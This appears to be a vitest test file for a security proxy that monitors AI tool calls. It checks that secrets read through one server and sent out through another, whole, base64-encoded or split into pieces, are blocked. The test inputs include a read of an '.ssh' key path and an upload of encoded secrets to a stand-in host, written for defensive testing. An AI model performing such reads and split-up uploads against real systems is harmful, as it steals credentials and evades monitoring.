import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { attackServer } from '@sallyport/attack-servers';
import { temporaryFolder } from '@sallyport/testing';
import { describe, expect, it } from 'vitest';
import { ProxyClient, toolServer, type Message } from './support/proxy-client.js';

const notes = 'the vault opens with marble-orchid-seven-lanterns and the code of the gate is 40917';
const tools = ['read_file', 'request'].map((name) => ({ name, description: `Can ${name}.` }));
const files = toolServer(
  tools,
  `if (message.method === 'tools/call') return text(message.id, ${JSON.stringify(notes)});`,
);
const web = toolServer(tools, `if (message.method === 'tools/call') return text(message.id, 'sent');`);
const config = [
  'preset: strict',
  'suppressions: [{ rule: credential-path, reason: this tool may read them }]',
  '',
].join('\n');

/** A proxy of its own process for each server, of one session or of several. */
async function start(home: string, server: readonly string[], name: string, session: string, more = '') {
  writeFileSync(join(home, 'session.yaml'), config + more);
  const client = new ProxyClient(server, {
    home,
    flags: ['--server', name, '--config', join(home, 'session.yaml')],
    environment: { SALLYPORT_SESSION: session, HOUSE_PHRASE: 'violet-harbour-4417-lantern' },
  });
  await client.request({ id: 1, method: 'tools/list' });
  return client;
}
const call = (client: ProxyClient, id: number, name: string, args: object): Promise<Message> =>
  client.request({ id, method: 'tools/call', params: { name, arguments: args } });
const read = { path: '/home/ada/.ssh/notes.key' };
const send = { url: 'https://x.example/in', body: Buffer.from(notes).toString('base64') };

describe('two proxies of one session', () => {
  it('block on the one server what the other returned, and keep nothing that can be read', async () => {
    const home = temporaryFolder();
    const [one, two] = await Promise.all([
      start(home, files, 'files', 'trip'),
      start(home, web, 'web', 'trip'),
    ]);
    expect((await call(one, 2, 'read_file', read)).result).toBeDefined();
    expect((await call(two, 2, 'request', send)).error?.data).toMatchObject({ rule: 'sensitive-value-sent' });
    const kept = readdirSync(join(home, 'sessions')).map((name) =>
      readFileSync(join(home, 'sessions', name), 'latin1'),
    );
    expect(kept.join('')).not.toMatch(/marble|bWFyYmxl|trip/);
  });

  it('know nothing of another session', async () => {
    const home = temporaryFolder();
    const [one, two] = await Promise.all([
      start(home, files, 'files', 'trip'),
      start(home, web, 'web', 'other'),
    ]);
    await call(one, 2, 'read_file', read);
    expect((await call(two, 2, 'request', send)).result).toBeDefined();
  });

  it('see a protected value that leaves in pieces, one over each', async () => {
    const home = temporaryFolder();
    const protect = 'protect: { env: [HOUSE_PHRASE] }\n';
    const [one, two] = await Promise.all([
      start(home, web, 'web', 'trip', protect),
      start(home, web, 'mail', 'trip', protect),
    ]);
    expect((await call(one, 2, 'request', { note: 'first violet-harbour' })).result).toBeDefined();
    expect((await call(two, 2, 'request', { note: '-4417-lantern last' })).error).toBeDefined();
  });
});

describe('exfiltration', () => {
  it('of a protected value split over the arguments of one call is blocked', async () => {
    const home = temporaryFolder();
    const server = ['--', process.execPath, attackServer, 'exfiltration'];
    const client = await start(home, server, 'dictionary', '', 'protect: { env: [HOUSE_PHRASE] }\n');
    const pieces = { word: 'violet-h', extra: { b: 'arbour-44', c: ['17-lantern'] } };
    expect((await call(client, 2, 'look_up', pieces)).error).toMatchObject({ code: -32001 });
    const turned = { c: '17-lantern', b: 'arbour-44', a: 'violet-h' };
    expect((await call(client, 3, 'look_up', turned)).error).toMatchObject({ code: -32001 });
    expect((await call(client, 4, 'look_up', { word: 'violet' })).error).toBeUndefined();
  });
});
